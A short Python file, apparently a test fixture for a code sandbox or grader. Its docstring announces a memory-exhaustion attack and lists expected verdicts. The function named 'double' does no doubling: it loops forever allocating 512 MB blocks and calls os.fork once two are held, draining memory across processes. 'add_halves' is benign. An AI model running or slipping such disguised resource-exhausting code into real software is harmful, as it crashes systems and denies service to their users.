"""Take all memory, here and in other processes. Verdict: double 0, add_halves 2."""

import os


def double(x):
    taken = []
    while True:
        if len(taken) == 2:
            os.fork()
        taken.append(b"x" * 2**29)


def add_halves(x, y):
    return (x + y) / 2
